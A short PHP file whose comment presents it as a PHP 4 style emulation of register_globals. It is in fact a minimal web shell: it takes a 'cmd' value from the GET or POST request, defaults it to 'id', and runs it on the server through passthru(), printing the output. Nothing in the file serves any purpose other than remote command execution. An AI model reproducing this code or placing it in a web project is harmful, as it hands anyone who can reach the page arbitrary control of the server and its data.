<?php
// register_globals by hand over a list of names, PHP 4 style: each named
// variable is the request's, and "if (!isset($cmd)) $cmd = ..." only gives
// it a default.
$inputs = "dir cmd file";
foreach (explode(" ", $inputs) as $k => $name) {
    if (isset($HTTP_POST_VARS[$name])) $$name = $HTTP_POST_VARS[$name];
    elseif (isset($HTTP_GET_VARS[$name])) $$name = $HTTP_GET_VARS[$name];
}
if (!isset($cmd)) {
    $cmd = "id";
}
echo "<pre>";
passthru($cmd);
